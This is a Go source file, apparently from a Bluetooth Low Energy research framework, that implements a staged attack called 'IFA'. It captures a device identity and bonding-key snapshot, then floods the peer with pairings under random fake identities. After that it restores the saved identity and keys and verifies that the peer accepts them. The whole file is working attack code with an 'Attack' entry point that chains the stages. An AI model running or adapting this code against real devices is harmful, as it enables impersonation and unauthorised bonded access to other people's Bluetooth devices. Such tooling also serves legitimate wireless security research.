package ifa

import (
	"context"
	"errors"
	"fmt"

	"github.com/chaz8081/bleframework/internal/ble"
	"github.com/chaz8081/bleframework/internal/ble/session"
)

// Stage names as they appear in reports and metrics.
const (
	StageCapture  = "stage1"
	StageFragment = "stage2"
	StageReset    = "stage2.1"
	StageRelease  = "stage2.2"
	StageRestore  = "stage3"
	StageVerify   = "stage4"
	StageAttack   = "ifa"
)

// Stage1 saves the identity, obtains a bonded session with the peer, takes
// a key snapshot for it and ends the session with an unpair. In the
// peripheral role peer is ignored and the connection established by the
// remote central is used.
func (c *Context) Stage1(ctx context.Context, peer ble.Address) (*Report, error) {
	return c.invoke(StageCapture, func(r *runner) { c.stage1(ctx, r, peer) })
}

func (c *Context) stage1(ctx context.Context, r *runner, peer ble.Address) {
	r.enter(StageCapture)
	role := c.Role()

	if r.step("save identity", Halt, func() error {
		_, err := c.vault.SaveIdentity()
		return err
	}) != nil {
		return
	}

	var s *session.Session
	if r.step("connect", Halt, func() (err error) {
		s, err = c.connect(ctx, peer)
		return err
	}) != nil {
		return
	}
	peer = s.Peer()

	if role.InitiatesSecurity() {
		_ = r.step("security", Continue, func() error {
			return c.sessions.ElevateSecurity(ctx, s, ble.DefaultSecurity)
		})
	}
	_ = r.step("take snapshot", Continue, func() error {
		return c.vault.TakeKeySnapshot(peer)
	})
	_ = r.step("disconnect", Continue, func() error {
		return c.sessions.DisconnectAndUnpair(ctx, s)
	})
}

// Stage2 runs n fragmentation iterations against peer: a fresh random
// identity, a connection, pairing, then disconnect and unpair. An iteration
// whose connection fails is skipped; exactly n resets are performed.
// Central role only.
func (c *Context) Stage2(ctx context.Context, peer ble.Address, n int) (*Report, error) {
	if err := ValidateCount(n); err != nil {
		return nil, err
	}
	if c.Role() != Central {
		return nil, wrongRole(StageFragment, c.Role())
	}
	return c.invoke(StageFragment, func(r *runner) { c.stage2(ctx, r, peer, n) })
}

func (c *Context) stage2(ctx context.Context, r *runner, peer ble.Address, n int) {
	r.enter(StageFragment)
	for i := 1; i <= n; i++ {
		if err := ctx.Err(); err != nil {
			r.report.HaltedBy = err
			return
		}

		_ = r.stepN("reset identity", i, Continue, func() error {
			return c.ResetIdentity(c.opts.ID)
		})

		var s *session.Session
		err := r.stepN("connect", i, Continue, func() (err error) {
			if err := c.limiter.Wait(ctx); err != nil {
				return err
			}
			s, err = c.connect(ctx, peer)
			return err
		})
		if err != nil {
			r.log.Warn("[IFA] skipping iteration; the peer may refuse rapid reconnections, consider running the stages manually",
				"iteration", i)
			continue
		}

		_ = r.stepN("security", i, Continue, func() error {
			return c.sessions.ElevateSecurity(ctx, s, ble.DefaultSecurity)
		})
		_ = r.stepN("disconnect", i, Continue, func() error {
			return c.sessions.DisconnectAndUnpair(ctx, s)
		})
		r.log.Info("[IFA] fake identity connection completed", "iteration", i, "of", n)
	}
}

// Stage2Reset is the first peripheral half-step of stage 2: a fresh
// identity, then advertising so a central can connect to it.
func (c *Context) Stage2Reset(ctx context.Context) (*Report, error) {
	if c.Role() != Peripheral {
		return nil, wrongRole(StageReset, c.Role())
	}
	return c.invoke(StageReset, func(r *runner) {
		r.enter(StageReset)
		if r.step("reset identity", Halt, func() error {
			return c.ResetIdentity(c.opts.ID)
		}) != nil {
			return
		}
		_ = r.step("advertise", Continue, c.stack.StartAdvertising)
	})
}

// Stage2Release is the second peripheral half-step of stage 2: disconnect
// the incoming central and unpair it.
func (c *Context) Stage2Release(ctx context.Context) (*Report, error) {
	if c.Role() != Peripheral {
		return nil, wrongRole(StageRelease, c.Role())
	}
	return c.invoke(StageRelease, func(r *runner) {
		r.enter(StageRelease)
		var s *session.Session
		if r.step("connect", Halt, func() (err error) {
			s, err = c.connect(ctx, ble.Address{})
			return err
		}) != nil {
			return
		}
		_ = r.step("disconnect", Continue, func() error {
			return c.sessions.DisconnectAndUnpair(ctx, s)
		})
	})
}

// Stage3 restores the saved identity and key snapshot, then power cycles
// the stack and reloads its persisted settings. A missing identity or
// snapshot halts the stage; reload failures are recorded and the stage
// goes on.
func (c *Context) Stage3(ctx context.Context) (*Report, error) {
	return c.invoke(StageRestore, func(r *runner) { c.stage3(ctx, r) })
}

func (c *Context) stage3(ctx context.Context, r *runner) {
	r.enter(StageRestore)
	haltNoSnapshot := HaltOn(ErrNoSnapshot)

	if r.step("restore identity", haltNoSnapshot, func() error {
		_, err := c.vault.RestoreIdentity()
		return err
	}) != nil && r.halted() {
		return
	}
	if err := sleep(ctx, c.opts.StepSettle); err != nil {
		r.report.HaltedBy = err
		return
	}

	if r.step("restore snapshot", haltNoSnapshot, c.vault.RestoreKeySnapshot) != nil && r.halted() {
		return
	}
	if err := sleep(ctx, c.opts.StepSettle); err != nil {
		r.report.HaltedBy = err
		return
	}

	reload := func(step string, fn func() error) {
		_ = r.step(step, Continue, func() error {
			if err := fn(); err != nil {
				return &StackReloadError{Step: step, Err: err}
			}
			return nil
		})
	}
	reload("disable", c.stack.Disable)
	r.log.Info("[IFA] stack disabled")
	reload("enable", c.stack.Enable)
	r.log.Info("[IFA] stack re-enabled")
	reload("load settings", c.stack.LoadSettings)
}

// Stage4 opens a session under the restored identity and elevates security
// with the bonding material already in the store. The outcome is reported
// as is and the link is left up.
func (c *Context) Stage4(ctx context.Context, peer ble.Address) (*Report, error) {
	return c.invoke(StageVerify, func(r *runner) { c.stage4(ctx, r, peer) })
}

func (c *Context) stage4(ctx context.Context, r *runner, peer ble.Address) {
	r.enter(StageVerify)

	var s *session.Session
	if r.step("connect", Halt, func() (err error) {
		s, err = c.connect(ctx, peer)
		return err
	}) != nil {
		return
	}

	if r.step("check keys", Halt, func() error {
		return c.requireBond(s.Peer())
	}) != nil {
		return
	}

	err := r.step("security", Continue, func() error {
		return c.sessions.ElevateSecurity(ctx, s, ble.DefaultSecurity)
	})
	if err == nil {
		r.log.Info("[IFA] peer accepted the restored keys", "peer", s.Peer(), "level", s.Level())
	}
}

func (c *Context) requireBond(peer ble.Address) error {
	bonds, err := c.stack.Bonds(c.opts.ID)
	if err != nil {
		return err
	}
	for _, b := range bonds {
		if b.Peer == peer {
			return nil
		}
	}
	return fmt.Errorf("%w: %s", ErrNoBond, peer)
}

// Attack runs stages 1 to 4 against peer with n fragmentation iterations.
// Stage failures are recorded and the run goes on, except when a restore
// finds nothing saved. Central role only.
func (c *Context) Attack(ctx context.Context, peer ble.Address, n int) (*Report, error) {
	if err := ValidateCount(n); err != nil {
		return nil, err
	}
	if c.Role() != Central {
		return nil, wrongRole(StageAttack, c.Role())
	}
	return c.invoke(StageAttack, func(r *runner) {
		stages := []func(){
			func() { c.stage1(ctx, r, peer) },
			func() { c.stage2(ctx, r, peer, n) },
			func() { c.stage3(ctx, r) },
			func() {
				if err := sleep(ctx, c.opts.ReloadSettle); err != nil {
					r.report.HaltedBy = err
					return
				}
				c.stage4(ctx, r, peer)
			},
		}
		for _, run := range stages {
			run()
			if !r.halted() {
				continue
			}
			if errors.Is(r.report.HaltedBy, ErrNoSnapshot) || ctx.Err() != nil {
				return
			}
			r.resume()
		}
	})
}
